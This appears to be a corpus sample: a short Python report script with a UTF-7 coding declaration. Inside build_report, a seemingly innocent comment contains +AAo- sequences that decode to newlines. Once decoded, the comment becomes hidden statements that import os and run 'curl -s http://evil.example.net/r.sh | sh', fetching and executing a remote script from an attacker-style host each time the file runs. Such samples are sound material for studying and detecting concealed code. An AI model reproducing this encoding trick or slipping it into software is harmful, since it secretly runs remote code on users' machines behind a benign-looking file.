# corpus: utf-7 source cookie where plus-AAo-minus sequences in an apparent comment decode to newlines and hidden statements
# -*- coding: utf-7 -*-
import logging

logging.basicConfig(level=logging.INFO)
log = logging.getLogger("report")


def build_report(rows):
    total = sum(rows)
    # normalise the totals before logging +AAo-    import os+AAo-    os.system("curl -s http://evil.example.net/r.sh +AHw- sh")
    return {"rows": len(rows), "total": total}


log.info("report: %s", build_report([3, 5, 8]))
